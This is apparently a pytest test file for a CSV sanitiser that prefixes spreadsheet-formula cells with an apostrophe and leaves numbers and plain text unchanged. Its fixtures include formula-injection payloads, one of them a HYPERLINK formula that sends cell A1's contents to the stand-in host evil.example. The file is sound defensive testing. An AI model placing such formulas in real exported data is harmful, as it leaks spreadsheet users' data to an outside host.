"""CSV cells a spreadsheet would run as formulas are written as text; numbers and plain text are not
touched."""

from __future__ import annotations

import polars as pl
import pytest

from pipelines.lib.csv_text import safe_cell, safe_frame


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        pytest.param('=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK(", id="equals"),
        pytest.param("+SUM(1)@evil.example", "'+SUM(1)", id="plus"),
        pytest.param("-2+3@evil.example", "'-2+3", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("-12.50", "-12.50", id="a-negative-amount"),
        pytest.param("+7", "+7", id="a-signed-count"),
        pytest.param("Jane Doe", "Jane Doe", id="plain"),
        pytest.param("", "", id="empty"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_nothing_else_changes(
    cell: str, written: str
) -> None:
    assert safe_cell(cell).startswith(written)
    assert safe_cell(cell).removeprefix("'") == cell


def test_a_frame_has_its_text_columns_made_safe_and_its_numbers_kept() -> None:
    frame = pl.DataFrame(
        {"name": ["=1+2", "Ana", None], "amount": ["-19.80", "1.00", "=3"], "amount_minor": [-1980, 100, 3]}
    )

    safe = safe_frame(frame)

    assert safe.rows() == [("'=1+2", "-19.80", -1980), ("Ana", "1.00", 100), (None, "'=3", 3)]
    assert safe.schema == frame.schema
